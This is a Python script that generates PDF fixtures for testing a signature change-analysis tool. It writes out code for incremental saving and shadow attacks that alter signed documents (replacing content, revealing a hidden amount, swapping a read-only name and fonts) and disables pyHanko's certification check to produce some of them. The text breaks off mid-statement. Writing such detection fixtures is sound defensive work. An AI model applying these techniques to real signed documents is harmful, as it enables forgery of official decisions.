#!/usr/bin/env python3
"""Generate the change-analysis fixtures of `crates/kyso-pdf-diff` (GitHub issue 5).

Writes `fixtures/attacks/*.pdf` and `fixtures/attacks/MANIFEST.tsv` (same columns as
`../shared/corpus/MANIFEST.tsv`; expected_verdict from its vocabulary).

Every file starts from a small *tagged* PDF written here (ISO 32000-1 §14.8: /MarkInfo,
/StructTreeRoot, /ParentTree, /StructParents), so that what a real Vietnamese signing tool does
when it adds a visible signature (update /Annots, the structure tree, Info and XMP) can be
reproduced. The first revision is always really signed by pyHanko (a throwaway self-signed key made
here with `cryptography`); legitimate later revisions are written by pyHanko's incremental writer,
malicious ones by `append_update` below, byte by byte, the way an attacker would (pdf-insecurity.org).

Re-runnable: `python3 scripts/gen-attack-fixtures.py` (no network). Signatures differ between runs
(fresh key, signing time), the structure does not.
"""
from __future__ import annotations

import datetime
import hashlib
import io
import os
import re
import sys

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID

from asn1crypto import keys as asn1_keys, x509 as asn1_x509
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import NameObject, pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko.sign.fields import FieldMDPAction, FieldMDPSpec, MDPPerm, SigFieldSpec
from pyhanko_certvalidator.registry import SimpleCertificateStore

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "fixtures", "attacks")

# --------------------------------------------------------------------------------------------
# A throwaway signer (self-signed, 2048-bit RSA). Not a trust anchor anywhere.
# --------------------------------------------------------------------------------------------


def make_signer(cn: str) -> signers.SimpleSigner:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name(
        [
            x509.NameAttribute(NameOID.COUNTRY_NAME, "VN"),
            x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Kyso test fixtures"),
            x509.NameAttribute(NameOID.COMMON_NAME, cn),
        ]
    )
    now = datetime.datetime(2026, 1, 1, tzinfo=datetime.timezone.utc)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now)
        .not_valid_after(now + datetime.timedelta(days=3650))
        .add_extension(
            x509.KeyUsage(True, True, False, False, False, False, False, False, False), critical=True
        )
        .sign(key, hashes.SHA256())
    )
    cert_der = cert.public_bytes(serialization.Encoding.DER)
    key_der = key.private_bytes(
        serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    c = asn1_x509.Certificate.load(cert_der)
    return signers.SimpleSigner(
        signing_cert=c,
        signing_key=asn1_keys.PrivateKeyInfo.load(key_der),
        cert_registry=SimpleCertificateStore.from_certs([c]),
    )


def make_tsa():
    """A throwaway self-signed time-stamping authority (EKU timeStamping, critical: RFC 3161 §2.3)."""
    from pyhanko.sign.timestamps import DummyTimeStamper

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Kyso test TSA")])
    now = datetime.datetime(2026, 1, 1, tzinfo=datetime.timezone.utc)
    cert = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(x509.random_serial_number()).not_valid_before(now)
        .not_valid_after(now + datetime.timedelta(days=3650))
        .add_extension(x509.ExtendedKeyUsage([x509.oid.ExtendedKeyUsageOID.TIME_STAMPING]), critical=True)
        .sign(key, hashes.SHA256())
    )
    c = asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER))
    k = asn1_keys.PrivateKeyInfo.load(key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
                                                        serialization.NoEncryption()))
    return DummyTimeStamper(tsa_cert=c, tsa_key=k, certs_to_embed=SimpleCertificateStore.from_certs([c]),
                            fixed_dt=datetime.datetime(2026, 1, 5, tzinfo=datetime.timezone.utc))


SIGNER_A = make_signer("Nguyễn Văn A (Kyso test)")
SIGNER_B = make_signer("CHÍNH PHỦ (Kyso test)")

# --------------------------------------------------------------------------------------------
# The base document: a tagged one-page PDF with two text fields and an overlay form XObject.
# --------------------------------------------------------------------------------------------

XMP = b"""<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:xmp="http://ns.adobe.com/xap/1.0/">
<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Quyet dinh so 01/QD-KYSO</rdf:li></rdf:Alt></dc:title>
<xmp:ModifyDate>2026-01-02T08:00:00+07:00</xmp:ModifyDate>
</rdf:Description></rdf:RDF></x:xmpmeta>
<?xpacket end="w"?>"""


def stream(dict_body: bytes, data: bytes) -> bytes:
    return b"<< " + dict_body + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def base_pdf(extra: dict[int, bytes] | None = None, shadow_defs: list[bytes] | None = None,
             contents: bytes = b"4 0 R") -> bytes:
    """A tagged PDF 1.7. `extra` adds objects (referenced or not); `shadow_defs` writes raw
    object definitions into the body that the xref does NOT point to (hidden alternatives for a
    later xref re-pointing)."""
    content = (
        b"/P <</MCID 0>> BDC BT /F1 16 Tf 72 760 Td (QUYET DINH so 01/QD-KYSO) Tj ET EMC\n"
        b"/P <</MCID 1>> BDC BT /F1 12 Tf 72 700 Td (So tien: 9.000.000 dong) Tj ET EMC\n"
        # The overlay (Fm1) paints a white box over the line above and writes another amount:
        # what the signer sees. Removing or emptying it is a shadow "hide" attack.
        b"q /Fm1 Do Q\n"
    )
    overlay = b"1 g 70 690 300 30 re f 0 g BT /F1 12 Tf 72 700 Td (So tien: 1.000.000 dong) Tj ET"
    ap_name = b"/Tx BMC q BT /F1 11 Tf 2 6 Td (Tran Thi B) Tj ET Q EMC"
    ap_note = b"/Tx BMC EMC"
    objs: dict[int, bytes] = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 10 0 R /MarkInfo << /Marked true >> "
        b"/StructTreeRoot 20 0 R /Lang (vi-VN) /Metadata 30 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents " + contents + b" "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >> "
        b"/StructParents 0 /Tabs /S /Annots [11 0 R 12 0 R] >>",
        4: stream(b"", content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        6: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>", overlay),
        10: b"<< /Fields [11 0 R 12 0 R] /DA (/F1 0 Tf 0 g) /DR << /Font << /F1 5 0 R >> >> >>",
        11: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (HoTen) /V (Tran Thi B) /Ff 1 /F 4 "
        b"/Rect [72 600 300 620] /P 3 0 R /DA (/F1 11 Tf 0 g) /AP << /N 13 0 R >> /StructParent 1 >>",
        12: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (GhiChu) /F 4 "
        b"/Rect [72 560 300 580] /P 3 0 R /DA (/F1 11 Tf 0 g) /AP << /N 14 0 R >> /StructParent 2 >>",
        13: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /F1 5 0 R >> >>", ap_name),
        14: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 228 20]", ap_note),
        20: b"<< /Type /StructTreeRoot /K [21 0 R] /ParentTree 22 0 R /ParentTreeNextKey 3 >>",
        21: b"<< /Type /StructElem /S /Document /P 20 0 R /K [23 0 R 26 0 R 24 0 R 25 0 R] >>",
        22: b"<< /Nums [0 [23 0 R 26 0 R] 1 24 0 R 2 25 0 R] >>",
        23: b"<< /Type /StructElem /S /P /P 21 0 R /Pg 3 0 R /K 0 >>",
        26: b"<< /Type /StructElem /S /P /P 21 0 R /Pg 3 0 R /K 1 >>",
        24: b"<< /Type /StructElem /S /Form /P 21 0 R /Pg 3 0 R /K << /Type /OBJR /Obj 11 0 R >> >>",
        25: b"<< /Type /StructElem /S /Form /P 21 0 R /Pg 3 0 R /K << /Type /OBJR /Obj 12 0 R >> >>",
        30: stream(b"/Type /Metadata /Subtype /XML", XMP),
        40: b"<< /Title (Quyet dinh so 01/QD-KYSO) /Producer (kyso gen-attack-fixtures) "
        b"/CreationDate (D:20260102080000+07'00') >>",
    }
    objs.update(extra or {})
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    for raw in shadow_defs or []:
        out += raw + b"\n"
    size = max(objs) + 1
    xref = len(out)
    out += b"xref\n0 %d\n" % size
    out += b"0000000000 65535 f \n"
    for n in range(1, size):
        if n in offsets:
            out += b"%010d 00000 n \n" % offsets[n]
        else:
            out += b"0000000000 00000 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 40 0 R /ID [<%s> <%s>] >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        hashlib.md5(bytes(out)).hexdigest().encode(),
        hashlib.md5(bytes(out)).hexdigest().encode(),
        xref,
    )
    return bytes(out)


# --------------------------------------------------------------------------------------------
# Signing (pyHanko) and raw incremental updates (the attacker's pen)
# --------------------------------------------------------------------------------------------


def sign(
    data: bytes,
    field: str,
    signer=SIGNER_A,
    box=(330, 40, 560, 110),
    certify=False,
    perm=MDPPerm.FILL_FORMS,
    field_mdp: FieldMDPSpec | None = None,
    prepare=None,
    stamp_style=None,
) -> bytes:
    """Sign `data` in a new visible field with pyHanko's incremental writer. `prepare(w)` may make
    further changes that end up in the same revision (as real signing tools do). `stamp_style`:
    pyHanko's appearance of the visible signature (default: its text stamp, no background)."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    spec = SigFieldSpec(field, box=box, on_page=0, field_mdp_spec=field_mdp)
    fields.append_signature_field(w, spec)
    if prepare is not None:
        prepare(w)
    meta = signers.PdfSignatureMetadata(
        field_name=field,
        certify=certify,
        docmdp_permissions=perm,
        reason="Ký số văn bản (Kyso test)",
        location="Hà Nội",
        subfilter=fields.SigSeedSubFilter.PADES if certify else fields.SigSeedSubFilter.ADOBE_PKCS7_DETACHED,
    )
    out = io.BytesIO()
    signers.PdfSigner(meta, signer=signer, stamp_style=stamp_style).sign_pdf(w, output=out)
    return out.getvalue()


def opaque_stamp(text: str):
    """A signature appearance with an opaque white background under the text (what a seal image or
    a boxed stamp draws): pyHanko's text stamp over a filled box."""
    from pyhanko import stamp
    from pyhanko.pdf_utils.content import RawContent
    from pyhanko.pdf_utils.layout import BoxConstraints

    bg = RawContent(b"1 g 0 0 100 100 re f", box=BoxConstraints(100, 100))
    return stamp.TextStampStyle(stamp_text=text, background=bg, background_opacity=1.0,
                                background_layout=None or stamp.TextStampStyle().background_layout)


def trailer_info(data: bytes):
    r = PdfFileReader(io.BytesIO(data), strict=False)
    t = r.trailer_view
    size = int(t["/Size"])
    root = t.raw_get("/Root")
    info = t.raw_get("/Info") if "/Info" in t else None
    return size, root, info, r.last_startxref


def append_update(
    data: bytes,
    objs: dict[int, bytes],
    root: bytes | None = None,
    xref_override: dict[int, int] | None = None,
    free: list[int] | None = None,
    shift_from: bytes | None = None,
    shift: int = 0,
    prev: int | None = None,
) -> bytes:
    """Append one incremental update (ISO 32000-1 §7.5.6) with a classic xref section: the new
    or replaced objects `objs`, xref entries pointing at existing offsets (`xref_override`), and
    freed objects (`free`). `root` replaces the trailer's /Root; `prev` replaces its /Prev (which
    otherwise names the last xref section, as the standard requires)."""
    if shift_from is None:
        size, root_ref, info_ref, last = trailer_info(data)
    else:  # `data` is `shift_from` with bytes inserted: its trailer, /Prev moved by `shift`
        size, root_ref, info_ref, last = trailer_info(shift_from)
        last += shift
    prev = last if prev is None else prev
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    entries: dict[int, bytes] = {}
    for num in sorted(objs):
        entries[num] = b"%010d 00000 n \n" % len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    for num, off in (xref_override or {}).items():
        entries[num] = b"%010d 00000 n \n" % off
    for num in free or []:
        entries[num] = b"0000000000 00001 f \n"
    if not entries:  # a section needs one subsection (ISO 32000-1 §7.5.4): the free head
        entries[0] = b"0000000000 65535 f \n"
    xref = len(out)
    out += b"xref\n"
    nums = sorted(entries)
    i = 0
    while i < len(nums):
        j = i
        while j + 1 < len(nums) and nums[j + 1] == nums[j] + 1:
            j += 1
        out += b"%d %d\n" % (nums[i], j - i + 1)
        for n in nums[i : j + 1]:
            out += entries[n]
        i = j + 1
    size = max([size] + [n + 1 for n in nums])
    r = root if root is not None else b"%d %d R" % (root_ref.idnum, root_ref.generation)
    info = b" /Info %d %d R" % (info_ref.idnum, info_ref.generation) if info_ref is not None else b""
    out += b"trailer\n<< /Size %d /Root %s%s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, r, info, prev, xref)
    return bytes(out)


def first_startxref(data: bytes) -> int:
    """Where the original revision (the first `startxref … %%EOF` of the file) keeps its xref section."""
    return int(re.search(rb"startxref\s+(\d+)\s+%%EOF", data).group(1))


def looping_updates(data: bytes, objs: dict[int, bytes]) -> bytes:
    """Two incremental updates whose trailers' /Prev name each other's xref section (ISO 32000-1 §7.5.6
    wants each /Prev to name the section before it): the first writes `objs`, the second nothing; the last
    startxref names the second. Followed from there, the chain never reaches the earlier revisions."""
    size, root_ref, info_ref, _ = trailer_info(data)
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    root = b"%d %d R" % (root_ref.idnum, root_ref.generation)
    info = b" /Info %d %d R" % (info_ref.idnum, info_ref.generation) if info_ref is not None else b""
    size = max([size] + [n + 1 for n in objs])
    x1 = len(out)
    out += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (n, offsets[n]) for n in sorted(objs))
    placeholder = b"/Prev 0000000000"
    out += b"trailer\n<< /Size %d /Root %s%s %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, info, placeholder, x1)
    x2 = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %s%s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, info, x1, x2)
    at = out.rindex(placeholder, 0, x2)
    out[at : at + len(placeholder)] = b"/Prev %010d" % x2
    return bytes(out)


def obj_body(data: bytes, num: int) -> bytes:
    """The body of the newest definition of object `num` (for small edits to copy it)."""
    r = PdfFileReader(io.BytesIO(data), strict=False)
    ref = generic.Reference(num, 0, r)
    o = ref.get_object()
    buf = io.BytesIO()
    if isinstance(o, generic.StreamObject):
        raise ValueError("use stream() for streams")
    o.write_to_stream(buf)
    return buf.getvalue()


def sig_object_num(data: bytes, field: str) -> tuple[int, int]:
    """(widget/field object number, signature dictionary object number) of a signature field."""
    r = PdfFileReader(io.BytesIO(data), strict=False)
    for f in r.root["/AcroForm"]["/Fields"]:
        fo = f.get_object()
        if fo.get("/T") == field:
            return f.idnum, fo.raw_get("/V").idnum
    raise KeyError(field)


# --------------------------------------------------------------------------------------------
# Legitimate multi-signature decree: certification P=2, then two approval signatures whose
# tool also updates the structure tree, Info and XMP (what VGCA tools do).
# --------------------------------------------------------------------------------------------


def flatten_number_tree(node) -> list:
    """(key, raw value) pairs of a number tree (ISO 32000-1 §7.9.7), in key order."""
    node = node.get_object() if isinstance(node, generic.IndirectObject) else node
    out = []
    if "/Kids" in node:
        kids = node["/Kids"]
        for i in range(len(kids)):
            out += flatten_number_tree(kids.raw_get(i))
    if "/Nums" in node:
        nums = node["/Nums"]
        for i in range(0, len(nums), 2):
            out.append((int(nums[i]), nums.raw_get(i + 1)))
    return sorted(out, key=lambda kv: kv[0])


def write_parent_tree(w: IncrementalPdfFileWriter, entries: list, per_node: int = 2):
    """Write the ParentTree anew, as the government's signing software does in every revision:
    a new root object with /Kids (new leaf objects with /Limits, `per_node` entries each), and
    every page entry (an array of structure elements) copied into a new indirect array. The
    entries — keys and the structure elements they name — are the same as before."""
    kids = generic.ArrayObject()
    for i in range(0, len(entries), per_node):
        chunk = entries[i : i + per_node]
        nums = generic.ArrayObject()
        for k, v in chunk:
            val = v.get_object() if isinstance(v, generic.IndirectObject) else v
            if isinstance(val, generic.ArrayObject):
                v = w.add_object(generic.ArrayObject([val.raw_get(j) for j in range(len(val))]))
            nums.append(generic.NumberObject(k))
            nums.append(v)
        leaf = generic.DictionaryObject({
            pdf_name("/Limits"): generic.ArrayObject([generic.NumberObject(chunk[0][0]),
                                                       generic.NumberObject(chunk[-1][0])]),
            pdf_name("/Nums"): nums,
        })
        kids.append(w.add_object(leaf))
    return w.add_object(generic.DictionaryObject({pdf_name("/Kids"): kids}))


def tag_new_widget(field: str, producer: str, rewrite_tree: bool = False, alter_key: int | None = None):
    """A `prepare` hook: put the new signature widget into the structure tree (ISO 32000-1
    §14.7.4.4 /OBJR, §14.7.4.4 ParentTree), bump ParentTreeNextKey, rewrite Info and XMP.
    `rewrite_tree`: write the whole ParentTree as new objects (`write_parent_tree`) instead of
    appending to its /Nums in place. `alter_key`: also point that earlier entry at another
    structure element (an attack on the tagged structure that must be flagged)."""

    def hook(w: IncrementalPdfFileWriter):
        root = w.root
        acro = root["/AcroForm"]
        widget_ref = None
        flds = acro["/Fields"]
        for i in range(len(flds)):
            if flds[i].get("/T") == field:
                widget_ref = flds.raw_get(i)
        assert widget_ref is not None
        widget = widget_ref.get_object()
        str_root_ref = root.raw_get("/StructTreeRoot")
        str_root = str_root_ref.get_object()
        key = int(str_root["/ParentTreeNextKey"])
        page_ref = widget.raw_get("/P")
        doc_elem_ref = str_root["/K"].raw_get(0)
        elem = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/StructElem"),
                pdf_name("/S"): pdf_name("/Form"),
                pdf_name("/P"): doc_elem_ref,
                pdf_name("/Pg"): page_ref,
                pdf_name("/Alt"): generic.TextStringObject("Chữ ký số"),
                pdf_name("/K"): generic.DictionaryObject(
                    {pdf_name("/Type"): pdf_name("/OBJR"), pdf_name("/Obj"): widget_ref}
                ),
            }
        )
        elem_ref = w.add_object(elem)
        widget[pdf_name("/StructParent")] = generic.NumberObject(key)
        w.update_container(widget)
        doc_elem = doc_elem_ref.get_object()
        doc_elem["/K"].append(elem_ref)
        w.update_container(doc_elem)
        if rewrite_tree:
            entries = flatten_number_tree(str_root.raw_get("/ParentTree"))
            if alter_key is not None:
                # Point an earlier entry at the new element instead (key → another element).
                entries = [(k, elem_ref if k == alter_key else v) for k, v in entries]
            entries.append((key, elem_ref))
            str_root[pdf_name("/ParentTree")] = write_parent_tree(w, entries)
        else:
            ptree = str_root["/ParentTree"]
            ptree["/Nums"].append(generic.NumberObject(key))
            ptree["/Nums"].append(elem_ref)
            w.update_container(ptree)
        str_root[pdf_name("/ParentTreeNextKey")] = generic.NumberObject(key + 1)
        w.update_container(str_root)
        # Rewrite XMP (a new stream object, as VGCA tools do) and the Info dictionary.
        xmp = XMP.replace(b"2026-01-02T08:00:00+07:00", b"2026-01-03T09:30:00+07:00")
        xs = generic.StreamObject(
            {pdf_name("/Type"): pdf_name("/Metadata"), pdf_name("/Subtype"): pdf_name("/XML")}, stream_data=xmp
        )
        root[pdf_name("/Metadata")] = w.add_object(xs)
        w.update_root()
        info_ref = w.trailer_view.raw_get("/Info")
        info = info_ref.get_object()
        info[pdf_name("/Producer")] = generic.TextStringObject(producer)
        w.update_container(info)

    return hook


def copying_writer(field: str):
    """A `prepare` hook imitating writers that copy containers into new objects
    instead of updating them in place: the widget is tagged (as above), then the
    ParentTree, the AcroForm and the page's /Annots are each moved to a new object."""
    tag = tag_new_widget(field, "VGCASignService")

    def hook(w: IncrementalPdfFileWriter):
        tag(w)
        root = w.root
        str_root = root["/StructTreeRoot"]
        pt = str_root["/ParentTree"]
        str_root[pdf_name("/ParentTree")] = w.add_object(generic.DictionaryObject({pdf_name("/Nums"): pt["/Nums"]}))
        w.update_container(str_root)
        af = root["/AcroForm"]
        root[pdf_name("/AcroForm")] = w.add_object(generic.DictionaryObject(dict(af.items())))
        w.update_root()
        page_ref = root["/Pages"].raw_get("/Kids")[0] if False else root["/Pages"]["/Kids"].raw_get(0)
        page = page_ref.get_object()
        annots = page["/Annots"]
        page[pdf_name("/Annots")] = w.add_object(generic.ArrayObject([annots.raw_get(i) for i in range(len(annots))]))
        w.update_container(page)

    return hook


def scanned_pdf() -> bytes:
    """A one-page 'scan': a page-sized grayscale JPEG (Pillow) of a letter whose text lines are dark bars
    (ink), with blank margins and a blank foot of the page. No text layer."""
    from PIL import Image, ImageDraw

    img = Image.new("L", (1190, 1684), 250)  # 2 px per point, paper slightly off-white
    d = ImageDraw.Draw(img)
    # Text lines between y = 520 pt and 760 pt from the bottom (image rows are top-down).
    for i, y_pt in enumerate(range(760, 520, -20)):
        row = 2 * (842 - y_pt)
        d.rectangle([2 * 72, row, 2 * (72 + 300 - (i % 3) * 40), row + 16], fill=20)
    buf = io.BytesIO()
    img.save(buf, format="JPEG", quality=85)
    jpg = buf.getvalue()
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
           b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
        4: stream(b"", b"q 595 0 0 842 0 0 cm /Im1 Do Q"),
        5: stream(b"/Type /XObject /Subtype /Image /Width 1190 /Height 1684 /ColorSpace /DeviceGray "
                  b"/BitsPerComponent 8 /Filter /DCTDecode", jpg),
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, 6))
    out += b"trailer\n<< /Size 6 /Root 1 0 R /ID [<%s> <%s>] >>\nstartxref\n%d\n%%%%EOF\n" % (
        hashlib.md5(bytes(out)).hexdigest().encode(), hashlib.md5(bytes(out)).hexdigest().encode(), xref)
    return bytes(out)


def decree() -> bytes:
    d = base_pdf()
    d = sign(d, "ChuKyLanhDao", SIGNER_A, box=(330, 120, 560, 190), certify=True, perm=MDPPerm.FILL_FORMS,
             prepare=tag_new_widget("ChuKyLanhDao", "VGCASignService"))
    d = sign(d, "ChuKyCoQuan", SIGNER_B, box=(330, 40, 560, 110), prepare=tag_new_widget("ChuKyCoQuan", "VGCASignService"))
    d = sign(d, "ChuKyPhatHanh", SIGNER_B, box=(40, 40, 270, 110), prepare=tag_new_widget("ChuKyPhatHanh", "VGCASignService"))
    return d


# --------------------------------------------------------------------------------------------
# Fixtures
# --------------------------------------------------------------------------------------------

FIXTURES: list[tuple[str, str, bytes, str]] = []


def add(name: str, verdict: str, data: bytes, why: str, fmt: str = "pdf/adbe.pkcs7.detached"):
    FIXTURES.append((name, verdict, data, why, fmt))


def main():
    os.makedirs(OUT, exist_ok=True)
    signed = sign(base_pdf(), "Signature1")  # approval signature, no DocMDP
    page_content_new = stream(b"", b"BT /F1 16 Tf 72 760 Td (QUYET DINH da bi sua) Tj ET\n")

    # ---- legitimate ----
    add("legit-decree-certified-p2-two-approvals.pdf", "valid-with-permitted-updates", decree(),
        "Tagged decree: certification P=2, then two approval signatures with visible widgets; each update also "
        "adds the widget to /Annots, the structure tree (ParentTree, StructParent), a new XMP stream and Info "
        "(as VGCA tools do): permitted", "pdf/certification DocMDP P=2 + 2 approvals")

    def fill_note(w):
        # Form filling of the unlocked field GhiChu, with a new appearance.
        r = w.root["/AcroForm"]["/Fields"]
        for f in r:
            fo = f.get_object()
            if fo.get("/T") == "GhiChu":
                fo[pdf_name("/V")] = generic.TextStringObject("Da xem")
                ap = generic.StreamObject(
                    {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
                     pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(x) for x in (0, 0, 228, 20)]),
                     pdf_name("/Resources"): generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): generic.IndirectObject(5, 0, w)})})},
                    stream_data=b"/Tx BMC q BT /F1 11 Tf 2 6 Td (Da xem) Tj ET Q EMC")
                fo[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): w.add_object(ap)})
                w.update_container(fo)

    def fill_then_sign(data, field, hook):
        return sign(data, field, SIGNER_B, box=(40, 40, 270, 110), prepare=hook)

    add("legit-approval-fill-unlocked-then-sign.pdf", "valid-with-permitted-updates",
        fill_then_sign(signed, "Signature2", fill_note),
        "Approval signature, then the unlocked text field GhiChu is filled (new /V and appearance) and a second "
        "signature is added: form filling and signing are permitted", "pdf/adbe.pkcs7.detached x2")

    p1 = sign(base_pdf(), "Cert1", certify=True, perm=MDPPerm.NO_CHANGES)
    # pyHanko (rightly) refuses to sign after P=1; switch its check off to play the careless tool.
    enforce = signers.PdfSigner._enforce_certification_constraints
    signers.PdfSigner._enforce_certification_constraints = lambda self, reader: None
    try:
        p1_signed = sign(p1, "Signature2", SIGNER_B, box=(40, 40, 270, 110))
    finally:
        signers.PdfSigner._enforce_certification_constraints = enforce
    add("docmdp-p1-then-signature.pdf", "flag-modified-after-signing", p1_signed,
        "Certification with DocMDP P=1 (no changes), then a second signature: P=1 forbids even signing",
        "pdf/certification DocMDP P=1 + approval")

    locked = sign(base_pdf(), "Signature1", field_mdp=FieldMDPSpec(FieldMDPAction.INCLUDE, ["GhiChu"]))
    add("fieldmdp-locked-field-filled.pdf", "flag-modified-after-signing", fill_then_sign(locked, "Signature2", fill_note),
        "Approval signature locks field GhiChu (FieldMDP /Include); a later revision fills GhiChu: disallowed",
        "pdf/adbe.pkcs7.detached + FieldMDP")

    signers.PdfSigner._enforce_certification_constraints = lambda self, reader: None
    try:
        approval_then_cert = sign(signed, "Cert2", SIGNER_B, box=(40, 40, 270, 110), certify=True)
    finally:
        signers.PdfSigner._enforce_certification_constraints = enforce
    add("certification-not-first.pdf", "flag-modified-after-signing", approval_then_cert,
        "A certification (DocMDP) signature added after an approval signature: ISO 32000-1 §12.8.2.2 requires it "
        "to be the first signature", "pdf/approval + certification")

    # ---- incremental saving attack: page content replaced after signing ----
    add("isa-content-replaced.pdf", "flag-modified-after-signing", append_update(signed, {4: page_content_new}),
        "Incremental saving attack: an update after the signature replaces the page content stream")

    # ---- page added ----
    new_page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 51 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    add("page-added.pdf", "flag-modified-after-signing",
        append_update(signed, {2: b"<< /Type /Pages /Kids [3 0 R 50 0 R] /Count 2 >>", 50: new_page,
                               51: stream(b"", b"BT /F1 16 Tf 72 760 Td (Trang them) Tj ET")}),
        "A page is added in an update after signing (page count 1 -> 2)")

    # ---- shadow hide: the overlay form XObject that hid a line is emptied ----
    add("shadow-hide-overlay-emptied.pdf", "flag-shadow-attack",
        append_update(signed, {6: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]", b"")}),
        "Shadow attack (hide): the signed page draws an overlay XObject over a line; the update empties that "
        "overlay so the hidden line (another amount) appears", "pdf/shadow-hide")

    # ---- shadow hide: the overlay is removed by re-pointing the page resources ----
    page_no_overlay = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                       b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 52 0 R >> >> /StructParents 0 /Tabs /S "
                       b"/Annots [11 0 R 12 0 R %d 0 R] >>")
    w_num, _ = sig_object_num(signed, "Signature1")
    add("shadow-hide-resources-repointed.pdf", "flag-shadow-attack",
        append_update(signed, {3: page_no_overlay % w_num, 52: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 1 1]", b"")}),
        "Shadow attack (hide): the page's /Resources are re-pointed to an empty overlay", "pdf/shadow-hide")

    # ---- shadow replace: a locked (ReadOnly) field's value and appearance swapped ----
    name_replaced = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (HoTen) /V (Le Van C) /Ff 1 /F 4 "
                     b"/Rect [72 600 300 620] /P 3 0 R /DA (/F1 11 Tf 0 g) /AP << /N 53 0 R >> /StructParent 1 >>")
    add("shadow-replace-readonly-field.pdf", "flag-shadow-attack",
        append_update(signed, {11: name_replaced, 53: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /F1 5 0 R >> >>",
                                                            b"/Tx BMC q BT /F1 11 Tf 2 6 Td (Le Van C) Tj ET Q EMC")}),
        "Shadow attack (replace): the value and appearance of the read-only field HoTen are replaced after signing",
        "pdf/shadow-replace")

    # ---- shadow replace: font swapped ----
    add("shadow-replace-font.pdf", "flag-shadow-attack",
        append_update(signed, {5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding "
